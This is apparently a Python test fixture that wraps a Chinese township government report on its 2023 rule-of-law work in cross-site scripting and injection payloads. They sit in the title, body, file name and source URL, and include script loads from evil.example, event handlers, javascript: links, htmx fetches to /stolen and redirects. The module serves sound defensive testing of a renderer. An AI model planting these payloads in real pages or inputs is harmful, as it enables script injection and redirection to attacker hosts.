"""A report that tries everything: in its title, its text, its name of file and the address that it came from.

What would run sets `window.broken`, opens a dialog or asks for /stolen, which the tests look for.
"""

HOSTILE_NAME = "<img src=x onerror=alert(1)>&quot;'.txt"
_TITLE = "平昌县白衣镇人民政府<svg/onload=alert(0)>\n关于2023年度法治政府建设情况的报告"
_LINES = (
    "<script>alert('script')</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=\"window.broken=1;alert('onerror')\"><svg/onload=alert(2)><iframe src=javascript:alert(3)>",
    '<div hx-get="/stolen" hx-trigger="load" data-hx-get="/stolen">htmx</div><b hx-on:click="alert(4)">点</b>',
    "<a href=\"javascript:alert('link')\">链接</a> javascript:alert(5) data:text/html,<script>alert(6)</script>",
    "{{ 7 * 7 }} {% raw %} ${alert(7)} </span></p></article></main></body><plaintext>",
    "'\"><style>body{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>交</button></form><base href=//evil.example/>",
)
HOSTILE_TEXT = f"""{_TITLE}
2023年，我镇认真推进法治政府建设，现将有关情况报告如下。
一、主要举措和成效
（一）总体情况。全年开展法治培训<script>alert(8)</script>12次，受理信访<img src=y onerror=alert(9)>36件。
{chr(10).join(_LINES)}
（二）普法宣传。全年开展法治宣传活动14场<b onmouseover=alert(10)>，发放资料4200余份。
"""


def hostile_meta() -> dict[str, str]:
    """What the fetcher would note beside the file."""
    return {
        "url": "javascript:alert('source')//http://www.scpc.gov.cn/x.html",
        "source_id": "<script>alert('source_id')</script>",
    }
